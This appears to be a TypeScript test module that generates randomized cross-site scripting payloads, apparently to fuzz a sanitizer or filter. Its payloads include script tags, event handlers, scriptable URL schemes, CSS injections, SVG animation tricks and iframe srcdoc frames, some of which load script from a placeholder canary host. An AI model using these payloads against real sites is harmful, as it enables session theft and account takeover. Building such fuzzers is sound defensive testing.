import { encoded, obscureName, obscureScheme, separator } from '#scripts/test/attack/obfuscate.ts'
import type { SeededRandom } from '#scripts/test/attack/seeded-random.ts'
import {
  canaryHost,
  eventNames,
  ordinaryTags,
  selfStarting,
  urlAttributes,
} from '#scripts/test/attack/vocabulary.ts'

/** Writes one attack that, where it works, runs the probe. */
export type AttackForm = (random: SeededRandom, probe: string) => string

const schemes = [
  'javascript:',
  'javascript:',
  'javascript:',
  'vbscript:',
  'livescript:',
  'data:text/html,',
  'blob:',
]

/** One piece of markup of any kind. */
export function anyMarkup(random: SeededRandom, probe: string): string {
  return random.pick(markups)(random, probe)
}

/** A script in a page. */
export function scriptElement(random: SeededRandom, probe: string): string {
  const name = obscureName(random, 'script')
  const source = `data:text/javascript,${probe}`
  return random.pick([
    `<${name}${random.pick(['', ' ', '/x', '\n', ' type=module', ' async', '\t~'])}>${probe}</${name}${random.pick(['', ' ', '\n', ' x'])}>`,
    `<${name}${separator(random)}src=${random.pick(['"', "'", ''])}${source}></${name}>`,
    `<${name} src=//${canaryHost}/a.js></${name}><!--${probe}-->`,
    `<scr<script>ipt>${probe}</scr</script>ipt>`,
    `<<${name}>${probe}//<</${name}>`,
    `<svg><${name}>${probe.replaceAll('=', '&#61;')}/*${probe}*/</${name}></svg>`,
    `<svg><${name} href="${source}"/></svg>`,
    `<${name}>${random.pick(['<!--', '//<![CDATA[\n', '/*</script>*/'])}\n${probe}\n</${name}>`,
    `<script type="importmap">{"imports":{"x":"${source}"}}</script><script type=module>import "x"</script>`,
  ])
}

/** A handler that runs by itself. */
export function eventHandler(random: SeededRandom, probe: string): string {
  const [tag, attributes, event] = random.pick(selfStarting)
  const ending = random.pick(['>', '>', '/>', ' ', `></${tag}>`, '//', '\n>'])
  const between = separator(random)
  return `<${obscureName(random, tag)}${between}${attributes}${separator(random)}${handler(random, event, probe)}${ending}`
}

/** A handler that waits for somebody. */
export function pointerHandler(random: SeededRandom, probe: string): string {
  const tag = obscureName(random, random.pick(ordinaryTags))
  const about = random.pick([
    '',
    'tabindex=0 ',
    'contenteditable ',
    'draggable=true ',
    'style="position:fixed;inset:0" ',
  ])
  return `<${tag}${separator(random)}${about}${handler(random, random.pick(eventNames), probe)}>${random.pick(['point here', '', '.'])}</${tag}>`
}

/** An attribute that is read as an address. */
export function addressInMarkup(random: SeededRandom, probe: string): string {
  const [tag, attribute, more] = random.pick(urlAttributes)
  const quote = random.pick(['"', "'", ''])
  const inside = random.pick(['click', '<input type=submit value=click>', ''])
  const element = `<${obscureName(random, tag)} ${more} ${obscureName(random, attribute)}=${quote}${bareAddress(random, probe)}${quote}>${inside}</${tag}>`
  return /^(?:use|feimage|image|script)$/.test(tag) && random.percent(70) ? `<svg>${element}</svg>` : element
}

/** An address alone, such as a link would have. */
export function bareAddress(random: SeededRandom, probe: string): string {
  if (random.percent(20)) return `//${canaryHost}/?${probe}`
  const scheme = random.pick(schemes)
  const code = scheme.startsWith('data:') ? `<script>${probe}</script>` : probe
  const before = random.pick(['', '', '//%0a', '//\n', '//&NewLine;', '/**/', 'void ', "'';"])
  return `${obscureScheme(random, scheme)}${scheme.startsWith('data:') ? '' : before}${code}`
}

/** Style that loads or runs something. */
export function style(random: SeededRandom, probe: string): string {
  const address = random.pick([
    `//${canaryHost}/s.png`,
    `javascript:${probe}`,
    `data:text/html,<script>${probe}</script>`,
  ])
  const declaration = random.pick([
    `background:url(${address})`,
    `background-image:\\75rl('${address}')`,
    `width:expression(${probe})`,
    `-moz-binding:url(${address}#x)`,
    `behavior:url(${address})`,
    `list-style:url("${address}")`,
    `content:url(${address})`,
    `--x:url(${address});cursor:var(--x),auto`,
    `font:x;}*{background:url(${address})}/*`,
    `position:fixed;inset:0;animation:x 1ms" onanimationstart="${probe}`,
  ])
  return random.pick([
    `<div style="${declaration}">text ${probe}</div>`,
    `<style>*{${declaration}}/*${probe}*/</style>`,
    `<style>@import "${address}";/*${probe}*/</style>`,
    `<style>@keyframes x{}</style><xss style="animation-name:x" ${handler(random, 'animationstart', probe)}></xss>`,
    `<style>@font-face{font-family:x;src:url(${address})}</style><!--${probe}-->`,
    `<svg><style>{font-family:'<iframe/onload=${probe}>'`,
    `${declaration};/*${probe}*/`,
    `<link rel=stylesheet href="${address}"><b>${probe}</b>`,
  ])
}

/** SVG that changes an attribute later. */
export function animation(random: SeededRandom, probe: string): string {
  const name = random.pick(['href', 'xlink:href', 'onload', 'from'])
  const address = `${obscureScheme(random, 'javascript:')}${probe}`
  return random.pick([
    `<svg><a><animate attributeName=${name} values="${address}"/><text y=20>click</text></a></svg>`,
    `<svg><a xlink:href=#><set attributeName="${name}" to="${address}"/><text y=20>click</text></a></svg>`,
    `<svg><animate ${handler(random, 'begin', probe)} attributeName=x dur=1s>`,
    `<svg><set ${handler(random, 'end', probe)} attributeName=x dur=1ms>`,
    `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>${probe}</script></svg>#x"/></svg>`,
    `<svg><discard ${handler(random, 'begin', probe)}>`,
    `<svg><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">${probe}</handler></svg>`,
  ])
}

/** A page inside the page. */
export function frameOfMarkup(random: SeededRandom, probe: string): string {
  const inner = `<script>${probe.replace('window', 'top')};${probe}</script>`
  return random.pick([
    `<iframe srcdoc="${inner}"></iframe>`,
    `<iframe srcdoc='${encoded(random, '<')}script>${probe}&lt;/script>'></iframe>`,
    `<iframe src="data:text/html,${inner}"></iframe>`,
    `<iframe name="${probe}" src="javascript:name"></iframe>`,
    `<object type="text/html" data="data:text/html,${inner}"></object>`,
    `<embed type="image/svg+xml" src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${probe}'/>">`,
    `<iframe sandbox="allow-scripts allow-same-origin" srcdoc="<img src=x onerror=${probe}>">`,
  ])
}

/** One event handler, as an attribute. */
export function handler(random: SeededRandom, event: string, probe: string): string {
  const quote = random.pick(['"', "'", '', '`'])
  const equals = random.pick(['=', '=', ' = ', '\n=', '=\t'])
  return `${obscureName(random, `on${event}`)}${equals}${quote}${probe}${quote}`
}

const markups: AttackForm[] = [
  scriptElement,
  eventHandler,
  pointerHandler,
  addressInMarkup,
  style,
  animation,
  frameOfMarkup,
]
